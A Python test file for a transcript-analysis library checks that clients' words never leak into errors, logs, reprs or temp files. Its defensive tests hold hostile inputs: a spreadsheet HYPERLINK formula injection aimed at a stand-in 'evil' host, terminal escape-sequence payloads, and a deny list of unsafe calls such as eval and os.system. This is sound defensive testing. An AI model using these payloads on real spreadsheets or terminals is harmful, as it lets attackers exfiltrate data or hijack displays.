"""What people said stays where it was: not in logs, reprs, errors, temporary files or the home directory."""

from __future__ import annotations

import csv
import io
import json
import logging
import os
import pickle
import re
import stat
import subprocess
import sys
import tempfile
import traceback
import warnings
from collections import Counter
from pathlib import Path

import pytest

from conftest import EXAMPLES
from reflectkit import Transcript, TranscriptError, analyze, analyze_many, read_transcript
from reflectkit.cli import main, output

WORD = "xanthippe"
SAID = f"I told them that {WORD} was the one who rang me on the night it went wrong"
ROWS = [
    ("Worker", f"So {SAID}?"),
    ("Client", f"{SAID}."),
    ("Worker", "Mm."),
    ("Client", f"And then {SAID}: no."),
    ("Worker", SAID),
]
TEMPLATES = {
    "a.txt": "Date: 3 May\n" + "\n".join(f"[00:0{i}] {s}: {x}" for i, (s, x) in enumerate(ROWS)),
    "b.txt": "\n".join(f"{s}  0:0{i}\n{x}\n" for i, (s, x) in enumerate(ROWS)),
    "a.csv": "session,speaker,text,start\n" + "\n".join(f's1,{s},"{x}",{i}' for i, (s, x) in enumerate(ROWS)),
    "b.csv": "\n".join(f'{s},"{x}"' for s, x in ROWS),
    "a.tsv": "role\tutterance\n" + "\n".join(f"{s}\t{x}" for s, x in ROWS),
    "a.json": json.dumps([{"speaker": s, "text": x, "start": i} for i, (s, x) in enumerate(ROWS)], indent=0),
    "b.json": json.dumps({"id": "s1", "messages": [{"from": {"name": s}, "body": x} for s, x in ROWS]}, indent=0),
    "a.jsonl": "\n".join(json.dumps([s, x]) for s, x in ROWS),
    "a.vtt": "WEBVTT\n\n" + "\n\n".join(f"00:0{i}.000 --> 00:0{i}.900\n<v {s}>{x}</v>" for i, (s, x) in enumerate(ROWS)),
    "a.srt": "\n\n".join(f"{i}\n00:00:0{i},000 --> 00:00:0{i},900\n{s}: {x}" for i, (s, x) in enumerate(ROWS)),
}  # fmt: skip


def broken(text: str) -> list[bytes]:
    """Break a transcript everywhere: lines gone, doubled and glued, signs gone or foreign, ends cut off, bytes that are none."""
    lines = text.split("\n")
    made = [text]
    for i in range(len(lines)):
        made.append("\n".join(lines[:i] + lines[i + 1 :]))
        made.append("\n".join([*lines[: i + 1], lines[i], *lines[i + 1 :]]))
        made.append("\n".join(lines[:i]) + "".join(lines[i:]))
    for at, sign in enumerate(text):
        if not sign.isalnum() and sign != " ":
            made += [text[:at] + other + text[at + 1 :] for other in ("", '"', ",", "\n")]
    made += [text[:at] for at in range(0, len(text), 7)]
    for word in ("Worker", "Client", "speaker", "text", "messages", "-->", "WEBVTT", "0"):
        made += [text.replace(word, other) for other in ("", "x", SAID, "9" * 400)]
    data = [t.encode() for t in made]
    data += [text.encode(e) for e in ("utf-16", "utf-16-le", "utf-32", "cp1252")]
    return data + [text.encode()[:at] + b"\xff\x00\x81" + text.encode()[at:] for at in range(0, len(text), 40)]


@pytest.mark.parametrize("name", TEMPLATES)
def test_nothing_said_about_a_bad_file_holds_its_words(name, caplog):
    told = Counter()
    with caplog.at_level(logging.DEBUG), warnings.catch_warnings(record=True) as warned:
        warnings.simplefilter("always")
        for number, data in enumerate(broken(TEMPLATES[name])):
            asked = ({"worker": "1"}, {"columns": {"text": "start"}}, {"session": "s2"}, {"worker": "Z*"})
            for options in ({}, asked[number % 4]):
                for seen in heard_of(name, data, options):
                    told[seen[0]] += 1
                    assert WORD not in seen[1].casefold(), f"{name}, {options}: {seen[0]}"
    for text in [str(w.message) for w in warned] + [r.getMessage() for r in caplog.records]:
        assert WORD not in text.casefold()
    assert told["error"] + told["value"] > 500


def heard_of(name: str, data: bytes, options: dict) -> list[tuple[str, str]]:
    """Read a file and return all that is said about it: errors with all they carry, reprs, notes."""
    handle = io.BytesIO(data)
    handle.name = name
    try:
        transcript = read_transcript(handle, **options)
    except TranscriptError as error:
        carried = (
            str(error),
            repr(error),
            *map(repr, vars(error).values()),
            repr(error.args),
            repr(pickle.dumps(error)),
        )
        chain = "".join(traceback.format_exception(error))
        return [("error", part) for part in (*carried, chain)]
    # Speakers' labels are shown; a label may hold speech only where the file itself has it in a speaker's place.
    values = (transcript, *transcript.turns, transcript.turns, transcript.notes, *transcript.notes)
    return [("value", text) for value in values for text in (repr(value), str(value))]


def test_the_command_line_says_no_word_of_a_bad_file(tmp_path, capsys):
    for name, text in TEMPLATES.items():
        path = tmp_path / name
        for data in broken(text)[1:40:3]:
            path.write_bytes(data[: len(data) // 2])
            main(["analyze", str(path), "--model", "no such model"])
            out = capsys.readouterr()
            assert WORD not in (out.out + out.err).casefold()
            assert out.err.startswith("reflectkit: ")


def test_a_transcript_given_for_a_path_is_not_repeated(capsys):
    said = "Worker: How was it? Client: xanthippe. " * 40
    for command in (
        ["analyze", said],
        ["report", said, "--out", "x.html"],
        ["batch", said, "--out", "x"],
        ["analyze", said, "x.txt"],
    ):
        assert main(command) == 2
        assert "xanthippe" not in "".join(capsys.readouterr())
    for given in (Path(said), said, [said], [Path(said)]):
        (failure,) = analyze_many(given, model="fast", on_error="collect")
        assert "xanthippe" not in str(failure)


def test_reprs_of_results_hold_no_words():
    result = analyze(
        Transcript.from_text(f"Worker: You miss {WORD}.\nClient: {WORD} left me.\nWorker: I lost my {WORD} so write.")
    )
    for value in (
        result,
        result.coded,
        result.coded[0],
        result.disclosures,
        result.balance,
        result.metrics,
        result.transcript.turns,
    ):
        assert WORD not in repr(value).casefold()


def test_no_log_line_is_written(caplog):
    with caplog.at_level(logging.DEBUG):
        analyze([("Worker", f"You miss {WORD}."), ("Client", f"{WORD} left.")])
    assert not [r for r in caplog.records if WORD in r.getMessage().casefold()]


def test_nothing_is_written_anywhere(tmp_path):
    """A whole run in a new home with a new temporary folder leaves both empty."""
    home, temp = tmp_path / "home", tmp_path / "temp"
    home.mkdir()
    temp.mkdir()
    path = str(EXAMPLES / "kitchen-table.txt")
    code = (
        f"import pathlib, reflectkit; reflectkit.analyze({path!r}).to_json(); "
        f"reflectkit.screen(pathlib.Path({path!r})); reflectkit.mask(pathlib.Path({path!r}), mapping=True)"
    )
    env = {
        "HOME": str(home),
        "USERPROFILE": str(home),
        "TMPDIR": str(temp),
        "TEMP": str(temp),
        "TMP": str(temp),
        "PYTHONDONTWRITEBYTECODE": "1",
    }
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, env=env, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert list(home.rglob("*")) == []
    assert list(temp.rglob("*")) == []
    assert sorted(p.name for p in tmp_path.iterdir()) == ["home", "temp"]


def test_the_runtime_of_the_network_cannot_report_home():
    """ONNX Runtime sends usage data from 1.29 on, unless told not to before it is loaded; earlier ones hold no such code."""
    code = (
        "import os, reflectkit; reflectkit.load_model('accurate'); import onnxruntime; "
        "print(os.environ['ORT_DISABLE_TELEMETRY'], onnxruntime.__version__)"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    off, version = done.stdout.split()
    assert off == "1"
    assert tuple(map(int, version.split(".")[:2])) < (1, 29)


def test_the_sources_open_no_connection_and_load_no_pickle():
    """The import contract forbids the modules; this forbids the calls that need none."""
    root = Path(__import__("reflectkit").__file__).parent
    forbidden = ("joblib.load(", "allow_pickle=True", "torch.load(", "eval(", "os.system(", "urlopen(")
    for path in root.rglob("*.py"):
        source = path.read_text("utf-8")
        for call in forbidden:
            if (path.name, call) == ("estimator.py", "joblib.load("):
                continue  # the one door for a file its owner trusts: load_model(path, trust=True)
            assert call not in source, f"{path.name}: {call}"
    assert tempfile.tempdir is None or Path(tempfile.tempdir).exists()


@pytest.mark.parametrize(
    "options", [{"speaker": "said", "text": "who"}, {"speaker": "who", "text": "said", "session": "said"}]
)
def test_a_wrong_column_tells_none_of_the_words(options):
    said = ("I want to die", "tell me more", "I want to die", "tell me more", "he raped me")
    rows = [{"who": ("Ana", "Bo")[i % 2], "said": words} for i, words in enumerate(said)]
    with pytest.raises(TranscriptError) as caught:
        read_transcript(rows, columns=options)
    assert not [words for words in said if words in str(caught.value)]


def test_nothing_that_is_printed_drives_a_terminal(tmp_path, capsys, monkeypatch):
    """Names may hold what sets a window's title or writes the clipboard; our own colours stay."""
    evil = "n\x1b]0;PWN\x07\x9b2J\u202e"
    monkeypatch.setattr(output, "is_terminal", lambda stream: True)
    monkeypatch.delenv("NO_COLOR", raising=False)
    output.show(output.title("Title") + f"\nSession {evil}\twords\n")
    output.complain(f"{evil}.csv: there are no turns in it.")
    printed = capsys.readouterr()
    assert printed.out == "\x1b[1mTitle\x1b[0m\nSession n\\x1b]0;PWN\\x07\\x9b2J\\u202e\twords\n"
    assert "\x1b]" not in printed.err
    assert "\x07" not in printed.err
    monkeypatch.setattr(output, "is_terminal", lambda stream: False)
    output.show(evil)
    assert capsys.readouterr().out == evil


def test_coding_sheets_run_no_formulas_and_keep_their_offsets(tmp_path):
    from reflectkit.learn import write_sheets
    from reflectkit.learn.corpus import read_table

    said = ('=HYPERLINK("http://evil/?"&A1,"open")', "@SUM(1+1)*cmd", "+1 for that. How was it?")
    talk = read_transcript(
        [("-Worker", said[0]), ("Client", said[1]), ("-Worker", said[2])], worker="-Worker", client="Client"
    )
    write_sheets([talk], tmp_path)
    for table in ("turns.csv", "utterances.csv"):
        with (tmp_path / table).open(newline="") as handle:
            assert not [cell for row in csv.reader(handle) for cell in row if cell[:1] in "=+-@" and cell]
    assert [row["text"] for row in read_table(tmp_path, "turns.csv")] == list(said)
    for row in read_table(tmp_path, "utterances.csv"):
        assert row["text"] in said[0] + said[2]


def test_what_is_no_file_is_written_to_and_not_replaced(tmp_path):
    from reflectkit.files import write_atomically

    (tmp_path / "real.json").write_text("old")
    (tmp_path / "latest.json").symlink_to("real.json")
    write_atomically(tmp_path / "latest.json", "new")
    assert not (tmp_path / "latest.json").is_symlink()
    assert (tmp_path / "real.json").read_text() == "old"  # a link somebody else laid leads nowhere
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    reader = os.open(pipe, os.O_RDONLY | os.O_NONBLOCK)
    write_atomically(pipe, "words")
    assert os.read(reader, 10) == b"words"
    os.close(reader)
    assert stat.S_ISFIFO(pipe.stat().st_mode)
    with pytest.raises(OSError, match=re.escape(tmp_path.name)):
        write_atomically(tmp_path, "words")
